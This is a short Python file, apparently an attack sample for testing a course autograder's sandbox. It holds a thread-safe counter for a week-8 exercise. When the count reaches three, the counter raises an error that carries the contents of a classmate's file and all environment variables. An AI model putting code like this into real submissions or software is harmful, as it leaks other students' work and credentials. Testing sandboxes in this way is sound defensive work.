"""Reads a classmate's file and the token while its interleavings are explored, and counts rightly."""
# attack: week=08 exercise=counter
import os
import threading


class Counter:
    def __init__(self):
        self.lock = threading.Lock()
        self.count = 0

    def increase(self):
        with self.lock:
            self.count += 1
            if self.count == 3:
                raise RuntimeError(open("@CLASSMATE@").read() + str(os.environ))
